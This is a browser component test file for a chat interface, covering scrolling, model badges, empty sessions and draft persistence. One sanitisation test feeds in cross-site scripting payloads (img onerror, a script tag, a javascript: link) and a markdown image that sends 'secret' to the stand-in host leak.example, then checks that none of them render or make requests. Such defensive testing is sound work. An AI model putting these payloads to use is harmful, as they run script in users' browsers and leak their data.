// Reading: scrolling, badges, and what an answer may contain.
import { expect, test } from 'vitest'
import { page } from 'vitest/browser'
import { button, composer, expectNone, transcript } from '../../../testing/component/in-session.ts'
import { openSession } from '../../../testing/component/open-page.tsx'
import { messageOf, ownSession } from '../../../testing/component/scripted-server.ts'

const history = (count: number) =>
  ownSession({ messages: Array.from({ length: count }, (_, index) => messageOf(index + 1, `message number ${index + 1} of many`)) })
const text = (words: string) => transcript().getByText(words, { exact: true })
const toNewest = () => button('To the newest message')

test('the button to the newest message is shown more than 100 px above it · MSG-03', async () => {
  await openSession({ session: history(40) })
  await expect.element(text('message number 40 of many')).toBeInViewport()
  const log = transcript().element()
  for (const [pixels, isShown] of [
    [95, false],
    [105, true],
    [95, false],
  ] as const) {
    await scrollUp(log, pixels)
    if (isShown) await expect.element(toNewest(), { message: `${pixels} px` }).toBeVisible()
    else await expectNone(toNewest())
  }
  await scrollUp(log, 105)
  await toNewest().click()
  await expect.element(text('message number 40 of many')).toBeInViewport()
})

/** Scrolls until the list stays there: rows are measured when they are first rendered, which moves the others. */
async function scrollUp(log: Element, pixels: number): Promise<void> {
  const fromNewest = () => log.scrollHeight - log.clientHeight - log.scrollTop
  await expect
    .poll(async () => {
      log.scrollTop += fromNewest() - pixels
      await twoFrames()
      return Math.round(fromNewest())
    })
    .toBe(pixels)
}

// The effects of scrolling are visible in the second frame.
async function twoFrames(): Promise<void> {
  for (const _time of [1, 2]) await new Promise((go) => requestAnimationFrame(go))
}

for (const [model, badge] of [
  ['gpt-4o', 'GPT-4'],
  ['gpt-3.5-turbo', 'GPT-3.5'],
  ['offline', 'Demo'],
  ['llama-4', 'llama-4'],
] as const) {
  test(`an answer of ${model} is labelled AI Assistant with the badge ${badge} · MSG-07 MSG-08`, async () => {
    const { server } = await openSession()
    server.sends({ type: 'new_message', message: messageOf(1, 'Hello Anna.', { ...byAi, metadata: { model } }) })
    const article = transcript().getByRole('article').filter({ hasText: 'Hello Anna.' })
    await expect.element(article.getByText('AI Assistant', { exact: true })).toBeVisible()
    await expect.element(article.getByText(badge, { exact: true })).toBeVisible()
  })
}

const byAi = { type: 'ai', anonymousId: null, displayName: 'AI Assistant' } as const

test('an answer is formatted without raw HTML, scripts or remote pictures', async () => {
  const { server } = await openSession()
  const asked: string[] = []
  const watch = new PerformanceObserver((list) => asked.push(...list.getEntries().map(({ name }) => name)))
  watch.observe({ type: 'resource' })
  const content = [
    '# Title\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```js\nlet x = 1\n```\n\n',
    '<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>\n\n',
    '![words](https://leak.example/?q=secret)\n\n[link](javascript:window.hacked=1) [good](https://example.com)',
  ].join('')
  server.sends({ type: 'new_message', message: messageOf(1, content, byAi) })
  await expect.element(transcript().getByRole('heading', { name: 'Title' })).toBeVisible()
  await expect.element(transcript().getByRole('table')).toBeVisible()
  await expect.element(transcript().getByText('let x = 1')).toBeVisible()
  const log = transcript().element()
  expect(log.querySelectorAll('img, script')).toHaveLength(0)
  await expect.element(transcript().getByRole('link', { name: 'good' })).toHaveAttribute('rel', expect.stringContaining('noopener'))
  expect(log.querySelectorAll('a[href^="javascript"]')).toHaveLength(0)
  expect('hacked' in window).toBe(false)
  await twoFrames()
  expect(asked.filter((url) => !url.startsWith(location.origin) && !url.startsWith('data:'))).toEqual([])
  watch.disconnect()
})

test('an empty session invites people to start · MSG-01', async () => {
  await openSession()
  await expect.element(page.getByText('Start the conversation')).toBeVisible()
})

test('a draft survives a reload; an unsent message too', async () => {
  await openSession()
  await composer().fill('not ready yet')
  await openSession({ isReload: true })
  await expect.element(composer()).toHaveValue('not ready yet')
})
